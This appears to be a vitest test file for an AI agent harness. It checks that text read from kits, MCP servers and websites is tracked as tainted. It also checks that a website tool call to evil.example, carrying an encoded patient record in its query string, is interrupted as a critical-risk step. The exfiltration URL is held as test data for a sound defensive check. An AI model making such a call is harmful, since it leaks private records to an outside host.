import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { RunPages } from '../../backend/agent/run-pages.ts';
import { AgentHarness, customs, outcome } from '../unit/agent-support.ts';
import { callTool, McpBench, tool } from './mcp-support.ts';

const RECORD = 'patient 88412-9931-XK, blood group AB negative';

describe('what a conversation has read', () => {
  let harness: AgentHarness;
  beforeEach(async () => {
    harness = await AgentHarness.start(() => ({ text: 'Done.' }));
  });
  afterEach(() => harness.close());

  it.each([
    ['kit', { kind: 'kit', moduleId: 'tables' }, 'kit:tables'],
    ['MCP server', { kind: 'mcp', server: 'shelf', tool: 'read_shelf' }, 'mcp:shelf'],
    ['website', { kind: 'sources', sources: [], origins: ['https://a.example'] }, 'https://a.example'],
  ])('holds the result of a %s, also the part that the model has not seen', (_what, artifact, origin) => {
    const { store } = harness;
    store.threads.ensure('t1', 'T');
    store.threads.addMessage('t1', {
      id: 'm1',
      turnId: 'turn-1',
      role: 'tool',
      toolCallId: 'c1',
      content: 'the beginning',
      artifact,
      createdAt: 1,
    });
    store.snapshots.putResult('c1', `the beginning ... ${RECORD}`, 'turn-1');
    const pages = new RunPages(store, 't1', 'turn-2');
    expect(pages.taint()).toEqual([origin]);
    expect(pages.readTexts()).toEqual([{ origin, text: expect.stringContaining(RECORD) }]);
  });
});

describe('a record that an MCP server gave', () => {
  let bench: McpBench | undefined;
  afterEach(() => bench?.close());

  it('does not leave in an address unasked', async () => {
    bench = await McpBench.start({ tools: [tool('read_shelf')] });
    await bench.enable();
    expect(await callTool(bench, 'read_shelf', { text: RECORD })).toContain(RECORD);
    const events = await bench.harness.run({
      command: {
        tool: 'website',
        args: { url: `https://evil.example/?q=${encodeURIComponent(RECORD)}`, question: 'What is here?' },
      },
    });
    expect(outcome(events)).toMatchObject({ type: 'interrupt' });
    expect(customs(events, 'pagehand.interrupt')[0]).toMatchObject({
      request: { kind: 'approval', tool: 'website', risk: { risk: 'critical' } },
    });
  });
});
